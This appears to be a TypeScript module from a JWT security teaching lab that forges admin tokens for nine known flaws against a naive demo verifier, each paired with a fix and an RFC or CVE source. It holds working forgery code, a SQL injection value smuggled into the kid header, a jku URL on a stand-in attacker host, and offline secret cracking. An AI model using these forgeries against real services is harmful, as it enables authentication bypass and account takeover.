import { CompactSign, exportJWK, generateKeyPair, type JWK } from "jose";
import { encodeText } from "./base64url";
import { COMMON_SECRETS } from "./common-secrets";
import { findSecret, hmacToken } from "./hmac";

/**
 * A public key the naive verifier is configured with for the RS→HS demo. Generated once for this lab;
 * its private half was thrown away, as an attacker never has it either: the attack needs only this.
 */
export const DEMO_RSA_PUBLIC_PEM = `-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAuvrLczW3ZIt54g81IWNd
VRK7G3BAd23fJw24tGf32cser4CCjYfujJ9qVoNnZeo/URedRcJnR8znkCNM6xs4
VDj0RLWEFaGdTzaDfllu42jNmAmybACeb6pAqBd1P/B8dTENsjfesed+EbGw+PFe
Y3sDj+Haqd+d1egE0sGo5FIRDpm0cGsaYAzINlAeHD7SdXiW2JuuPA/GmS/ioEJs
cym95DOvN7DLxKVQfLTPmzrlnL8A16ARiNENWt8cgK/HSMKTLu693BN+xYPsDbUr
szj7lMOyYGkRYdZ26GlG5UY5rQi9di5sSLSYiSix6mr+LgX5HmdTtQVEMIk9+g10
lwIDAQAB
-----END PUBLIC KEY-----
`;

export const ATTACK_IDS = ["alg-none", "rs-hs-confusion", "kid-injection", "embedded-jwk", "jku", "missing-exp", "weak-secret", "missing-aud", "duplicate-claims"] as const;
export type AttackId = (typeof ATTACK_IDS)[number];

export type Attack = {
  id: AttackId;
  title: string;
  /** What the attacker does, in one or two sentences. */
  how: string;
  /** The fix, with its source. */
  fix: string;
  source: string;
  /** The one key the naive verifier holds for this scenario (see naive.ts). */
  naiveKey: string;
  hosted?: Record<string, { keys: JWK[] }>;
  token: string;
  /** Extra facts the build found, e.g. how many guesses cracked the secret. */
  finding?: string;
};

export const ATTACK_TITLES: Record<AttackId, string> = {
  "alg-none": "alg: none",
  "rs-hs-confusion": "RS256 → HS256 confusion",
  "kid-injection": "kid injection",
  "embedded-jwk": "Embedded jwk header",
  jku: "jku / x5u URL header",
  "missing-exp": "Missing exp",
  "weak-secret": "Weak HMAC secret",
  "missing-aud": "Missing aud check (relay)",
  "duplicate-claims": "Duplicate claims",
};

const ISSUER_SECRET = "issuer-secret-7f1c9a2e4b6d8035e1f2a3b4c5d6e7f8";

/** Builds one attack token. `now` is seconds since 1970. Async: it signs with WebCrypto. */
export async function buildAttack(id: AttackId, now: number): Promise<Attack> {
  const claims = { sub: "mallory", role: "admin", iss: "session-lab-sandbox", aud: "session-lab-sandbox", iat: now, exp: now + 600 };
  const title = ATTACK_TITLES[id];
  switch (id) {
    case "alg-none":
      return {
        id, title, naiveKey: ISSUER_SECRET,
        how: "Writes any claims, sets alg to none and leaves the signature empty.",
        fix: "Pin the accepted algorithms in the verifier; never accept none for signed tokens.",
        source: "RFC 8725 §2.1, §3.1; RFC 7519 §6",
        token: `${encodeText(JSON.stringify({ alg: "none", typ: "JWT" }))}.${encodeText(JSON.stringify(claims))}.`,
      };
    case "rs-hs-confusion":
      return {
        id, title, naiveKey: DEMO_RSA_PUBLIC_PEM,
        how: "Takes the server's RSA public key (it is public), and signs forged claims with HS256 using the PEM text as the HMAC secret.",
        fix: "Pin RS256 for this key; a library should refuse to use a public key as an HMAC secret (jose does).",
        source: "RFC 8725 §2.1, §3.1; CVE-2015-9235",
        token: await hmacToken(JSON.stringify({ alg: "HS256", typ: "JWT" }), JSON.stringify(claims), DEMO_RSA_PUBLIC_PEM),
      };
    case "kid-injection": {
      const kid = "nope' UNION SELECT 'attacker-secret";
      return {
        id, title, naiveKey: ISSUER_SECRET,
        how: `Puts SQL in kid (${kid}) so the key lookup returns a secret the attacker chose, then signs with it.`,
        fix: "Use kid only as a lookup key into your own key set (a map, a parameterised query); refuse unknown kids.",
        source: "RFC 8725 §2.9, §3.10",
        token: await hmacToken(JSON.stringify({ alg: "HS256", typ: "JWT", kid }), JSON.stringify(claims), "attacker-secret"),
      };
    }
    case "embedded-jwk":
    case "jku": {
      const { publicKey, privateKey } = await generateKeyPair("ES256", { extractable: true });
      const jwk = { ...(await exportJWK(publicKey)), alg: "ES256" };
      const url = "https://attacker.example/.well-known/jwks.json";
      const header = id === "jku" ? { alg: "ES256", typ: "JWT", jku: url } : { alg: "ES256", typ: "JWT", jwk };
      const token = await new CompactSign(new TextEncoder().encode(JSON.stringify(claims))).setProtectedHeader(header).sign(privateKey);
      return {
        id, title, naiveKey: ISSUER_SECRET, token,
        hosted: id === "jku" ? { [url]: { keys: [jwk] } } : undefined,
        how: id === "jku" ? "Makes a key pair, hosts the public key at a URL it controls, names that URL in jku (x5u works the same with a certificate), and signs." : "Makes a key pair, puts the public key in the token's own jwk header, and signs with the private key.",
        fix: "Take keys only from your configuration (a pinned JWKS URL per issuer); ignore jwk, jku and x5u in tokens, or allow-list exact URLs.",
        source: id === "jku" ? "RFC 8725 §2.9, §3.10" : "RFC 8725 §3.10; CVE-2018-0114",
      };
    }
    case "missing-exp": {
      const old = { sub: "alice", role: "admin", iss: "session-lab-sandbox", aud: "session-lab-sandbox", iat: 1561939200 };
      return {
        id, title, naiveKey: ISSUER_SECRET,
        how: "Replays a token copied from a log in 2019. Its issuer never set exp, so it has never stopped working.",
        fix: "Always set a short exp, and require it when verifying.",
        source: "RFC 9068 §2.2; RFC 7519 §4.1.4",
        token: await hmacToken(JSON.stringify({ alg: "HS256", typ: "JWT" }), JSON.stringify(old), ISSUER_SECRET),
      };
    }
    case "weak-secret": {
      const stolen = await hmacToken(JSON.stringify({ alg: "HS256", typ: "JWT" }), JSON.stringify({ ...claims, sub: "alice", role: "user" }), "secret");
      const cracked = await findSecret(stolen, COMMON_SECRETS);
      const secret = cracked.secret ?? "secret";
      return {
        id, title, naiveKey: "secret",
        how: "Takes one ordinary token, tries a word list of secrets offline until the HMAC matches, then signs its own claims with the secret it found.",
        fix: "Use a random key of at least 256 bits for HS256 (or sign with a private key).",
        source: "RFC 8725 §2.2, §3.5; RFC 7518 §3.2",
        finding: `Found the secret ${JSON.stringify(secret)} after ${cracked.tried} ${cracked.tried === 1 ? "guess" : "guesses"}.`,
        token: await hmacToken(JSON.stringify({ alg: "HS256", typ: "JWT" }), JSON.stringify(claims), secret),
      };
    }
    case "missing-aud":
      return {
        id, title, naiveKey: ISSUER_SECRET,
        how: "A token the issuer minted for the billing service (aud billing-api) is relayed by that service to the profile service, which never checks aud.",
        fix: "Each service requires its own name in aud and refuses everything else.",
        source: "RFC 8725 §2.7, §3.9; RFC 7519 §4.1.3",
        token: await hmacToken(JSON.stringify({ alg: "HS256", typ: "JWT" }), JSON.stringify({ ...claims, sub: "alice", role: "user", aud: "billing-api" }), ISSUER_SECRET),
      };
    case "duplicate-claims": {
      const payload = `{"sub":"alice","role":"user","iss":"session-lab-sandbox","aud":"session-lab-sandbox","iat":${now},"exp":${now + 600},"role":"admin"}`;
      return {
        id, title, naiveKey: ISSUER_SECRET,
        how: "Gets a token whose claims say role twice. A gateway that reads the first sees user; the service behind it, with JSON.parse, sees admin.",
        fix: "Refuse tokens with duplicate names (a strict parser), or be sure every party keeps the same one.",
        source: "RFC 7519 §4; RFC 8259 §4",
        token: await hmacToken(JSON.stringify({ alg: "HS256", typ: "JWT" }), payload, ISSUER_SECRET),
      };
    }
  }
}
